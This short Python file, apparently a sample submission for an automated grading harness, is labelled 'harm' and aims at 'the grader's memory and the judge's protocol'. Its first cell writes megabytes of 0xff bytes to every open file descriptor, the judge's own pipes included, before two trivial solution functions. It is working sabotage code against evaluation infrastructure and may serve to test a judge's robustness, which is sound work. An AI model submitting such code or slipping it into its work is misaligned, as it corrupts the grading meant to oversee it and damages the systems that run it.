# kind = "harm"
# goal = "the grader's memory and the judge's protocol"
# trick = "writes megabytes on every open descriptor, the judge's own among them; then ends"
# mark = 7
# %%
import os
for fd in range(1024):
    try:
        os.set_blocking(fd, False)
        for _ in range(100):
            os.write(fd, b"\xff" * 65536)
    except OSError:
        pass
# %% solve="double"
def double(x): return 2 * x
# %% solve="norm"
def norm(v): return float((v ** 2).sum()) ** 0.5
